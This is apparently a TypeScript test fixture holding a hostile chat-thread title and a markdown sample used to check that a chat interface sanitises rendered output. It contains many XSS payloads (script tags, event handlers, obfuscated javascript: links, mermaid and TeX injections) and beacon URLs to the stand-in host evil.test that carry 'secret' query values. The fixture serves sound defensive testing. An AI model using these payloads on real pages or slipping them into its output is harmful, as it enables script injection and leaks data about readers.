/** A user's first message, which becomes a thread's title. */
export const hostileTitle =
  '</script><script>window.pwned=1</script><img src=x onerror="window.pwned=1">{{7*7}} \u202Etxt.exe\u202C \u200B"\'`';

/** Everything that a model may write to act in the reader's page or to tell another host that somebody reads. */
export const hostileMarkdown = `A harmless word.

<img src=x onerror="window.pwned=1;alert(1)">
<svg onload="window.pwned=1"><script>window.pwned=1</script></svg>
<script>window.pwned=1</script>
<iframe srcdoc="<script>parent.pwned=1</script>" src="https://evil.test/frame"></iframe>
<a href="javascript:window.pwned=1" onclick="window.pwned=1">click</a>
<form action="https://evil.test/form"><button formaction="javascript:window.pwned=1">send</button></form>
<math><mtext><table><mglyph><style><img src=x onerror="window.pwned=1"></style></mglyph></table></mtext></math>
<base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/meta">
<link rel="stylesheet" href="https://evil.test/a.css"><link rel="prefetch" href="https://evil.test/prefetch">
<link rel="dns-prefetch" href="https://dns.evil.test"><style>body{background:url(https://evil.test/css)}</style>
<div style="background:url(https://evil.test/style)">styled</div>
<video src="https://evil.test/v" poster="https://evil.test/p" autoplay></video><audio src="https://evil.test/a" autoplay></audio>
<object data="https://evil.test/o"></object><embed src="https://evil.test/e">
<img src=https://evil.test/unquoted?q=secret><input type="image" src="https://evil.test/input" autofocus onfocus="window.pwned=1">
<details open ontoggle="window.pwned=1"><summary>more</summary></details>

![picture](https://evil.test/picture?q=secret) ![reference][ref] ![](//evil.test/schemeless) ![d](data:image/svg+xml,<svg/onload=window.pwned=1>)

[ref]: https://evil.test/reference?q=secret "title"

[one](javascript:window.pwned=1) [two](JaVaScRiPt:window.pwned=1) [three](java&#115;cript:window.pwned=1)
[four](data:text/html,<script>window.pwned=1</script>) [five](vbscript:msgbox) [six](<javascript:window.pwned=1>)
[seven](&#x6A;avascript:window.pwned=1) [eight](\tjavascript:window.pwned=1) [nine](blob:https://evil.test/x) [ten](file:///etc/passwd)
[an honest link](https://evil.test/link) <https://evil.test/auto> <javascript:window.pwned=1> https://evil.test/bare

| a | b |
| --- | --- |
| <img src=x onerror=window.pwned=1> | ![t](https://evil.test/table) |

\`\`\`mermaid
graph TD; A-->B; click A "javascript:window.pwned=1"; click B call alert(1)
\`\`\`

\`\`\`html
<script>window.pwned=1</script><img src="https://evil.test/code" onerror="window.pwned=1">
\`\`\`

$$\\href{javascript:window.pwned=1}{x} \\includegraphics{https://evil.test/tex}$$ and $\\url{javascript:window.pwned=1}$

\u001b]8;;https://evil.test/osc\u0007terminal link\u001b]8;;\u0007 \u001b[31mred\u001b[0m <!-- <img src=x onerror=window.pwned=1> -->

> <blockquote onmouseover="window.pwned=1">nested <b><i><img src=x onerror=window.pwned=1></i></b></blockquote>

The end of it.
`;
